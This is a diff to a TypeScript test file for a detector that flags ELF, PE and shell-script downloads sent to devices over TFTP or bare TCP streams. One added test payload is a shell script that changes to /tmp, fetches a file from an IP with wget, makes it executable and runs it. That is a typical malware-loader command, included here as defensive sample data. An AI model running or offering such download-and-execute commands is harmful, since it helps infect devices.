@@ -1,8 +1,8 @@
 /**
- * Programs fetched outside HTTP (src/features/raw-elf.ts): an ELF sent to a device as TFTP's
- * first data block, or as the first bytes of a bare TCP stream (FTP's data connection, a
- * loader's socket), is a malware_download; a stream that starts with random bytes or with a
- * two-byte `MZ` is not.
+ * Programs fetched outside HTTP (src/features/raw-program.ts): an ELF, a PE (with its `PE\0\0`
+ * header where `e_lfanew` points) or a script (`#!/bin/sh`) sent to a device as TFTP's first data
+ * block, or as the first bytes of a bare TCP stream (FTP's data connection, a loader's socket),
+ * is a malware_download; a stream that starts with random bytes or with a two-byte `MZ` is not.
  */
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -120,6 +120,26 @@ describe('programs fetched outside HTTP', () => {
     const found = malware(demoWith(dir, 'stream', stream(30_123, ELF)));
     expect(found.map((r) => r.mac)).toEqual(['a4:11:62:96:9a:67']);
     expect(found[0].summary).toContain('a bare stream from 203.0.113.9:30123');
+  });
+
+  it('a PE as the first bytes of a stream, and a script over TFTP, are named', () => {
+    const pe = Buffer.alloc(512, 0);
+    pe.write('MZ', 0, 'latin1');
+    pe.writeUInt32LE(0x80, 0x3c);
+    pe.write('PE\0\0', 0x80, 'latin1');
+    const found = malware(demoWith(dir, 'pe', stream(30_126, pe)));
+    expect(found[0]?.summary).toMatch(/downloaded a Windows program \(PE\) from a bare IP/);
+    const sh = Buffer.from('#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x; chmod +x x; ./x\n');
+    const script = demoWith(dir, 'script', [
+      {
+        fromCamera: false,
+        proto: 17,
+        sport: 51_235,
+        dport: 41_001,
+        payload: Buffer.concat([Buffer.from([0, 3, 0, 1]), sh]),
+      },
+    ]);
+    expect(malware(script)[0]?.summary).toMatch(/downloaded a script from a bare IP .*tftp:\/\//);
   });
 
   it('a stream that starts with random bytes, or with MZ, is no download', () => {
